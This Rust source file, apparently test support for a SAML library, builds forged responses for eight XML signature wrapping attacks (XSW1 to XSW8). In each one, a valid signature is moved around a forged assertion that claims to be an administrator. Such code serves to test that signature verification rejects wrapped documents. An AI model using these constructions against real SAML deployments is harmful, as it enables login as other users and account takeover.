//! Signature wrapping: a signed element is kept, and another one is put where it is looked for.

use saml::attributes::Preset;

use crate::provider::{Shape, shape};

/// Which element is signed.
#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Signed {
    Response,
    Assertion,
}

pub fn base(signed: Signed) -> Shape {
    Shape {
        sign_response: signed == Signed::Response,
        sign_assertion: signed == Signed::Assertion,
        ..shape(Preset::Okta)
    }
}

/// The attacker's wish: another person, under ids of his own.
pub fn evil(base: &Shape) -> Shape {
    Shape {
        response_id: "_evilresponse".to_owned(),
        assertion_id: "_evilassertion".to_owned(),
        name_id: "admin@acme.example".to_owned(),
        attributes: vec![("email".to_owned(), vec!["admin@acme.example".to_owned()])],
        ..base.clone()
    }
}

/// Takes the first signature out of a text: the rest, and the signature.
pub fn cut(text: &str) -> (String, String) {
    let start = text.find("<ds:Signature ").unwrap();
    let end = text[start..].find("</ds:Signature>").unwrap() + start + "</ds:Signature>".len();
    let rest = format!("{}{}", &text[..start], &text[end..]);
    (rest, text[start..end].to_owned())
}

/// Puts something at the end of a signature.
fn inside(signature: &str, more: &str) -> String {
    signature.replace("</ds:Signature>", &format!("{more}</ds:Signature>"))
}

fn in_key_info(signature: &str, more: &str) -> String {
    signature.replace("</ds:KeyInfo>", &format!("{more}</ds:KeyInfo>"))
}

fn object(more: &str) -> String {
    format!("<ds:Object>{more}</ds:Object>")
}

fn extensions(more: &str) -> String {
    format!("<saml2p:Extensions>{more}</saml2p:Extensions>")
}

/// XSW1 to XSW8 (Somorovsky and others, "On Breaking SAML: Be Whoever You Want to Be").
pub fn wrapped(shape_of_attack: u8, signed: Signed) -> String {
    let honest = base(signed);
    let evil = evil(&honest);
    match signed {
        Signed::Assertion => assertion(shape_of_attack, &honest, &evil),
        Signed::Response => response(shape_of_attack, &honest, &evil),
    }
}

fn assertion(shape_of_attack: u8, honest: &Shape, evil: &Shape) -> String {
    let whole = honest.assertion();
    let (bare, signature) = cut(&whole);
    let around = |parts: &[&str]| honest.response_with("", &parts.concat());
    match shape_of_attack {
        // The signature stands in the response and holds the signed assertion.
        1 => honest.response_with(&inside(&signature, &bare), &evil.assertion_with("")),
        // The signed assertion stands beside its signature, both in the evil one.
        2 => around(&[&evil.assertion_with(&format!("{bare}{signature}"))]),
        // The evil assertion comes first.
        3 => around(&[&evil.assertion_with(""), &whole]),
        // The evil assertion holds the signed one.
        4 => around(&[&evil
            .assertion_with("")
            .replace("</saml2:Assertion>", &format!("{whole}</saml2:Assertion>"))]),
        // The evil assertion has the signature, the signed one comes after it.
        5 => around(&[&evil.assertion_with(&signature), &bare]),
        // The evil assertion has the signature, which holds the signed one in its KeyInfo.
        6 => around(&[&evil.assertion_with(&in_key_info(&signature, &bare))]),
        // The evil assertion hides in extensions, which anything may stand in.
        7 => honest.response_with(&extensions(&evil.assertion_with("")), &whole),
        // The signed assertion hides in an object of the evil one's signature.
        _ => around(&[&evil.assertion_with(&inside(&signature, &object(&bare)))]),
    }
}

fn response(shape_of_attack: u8, honest: &Shape, evil: &Shape) -> String {
    let whole = honest.response();
    let (bare, signature) = cut(&whole);
    let other = evil.assertion_with("");
    match shape_of_attack {
        1 => evil.response_with(&inside(&signature, &bare), &other),
        2 => evil.response_with(&format!("{bare}{signature}"), &other),
        3 => evil.response_with(&whole, &other),
        4 => evil.response_with("", &format!("{other}{whole}")),
        5 => evil.response_with(&signature, &format!("{other}{bare}")),
        6 => evil.response_with(&in_key_info(&signature, &bare), &other),
        7 => evil.response_with(&extensions(&whole), &other),
        _ => evil.response_with(&inside(&signature, &object(&bare)), &other),
    }
}
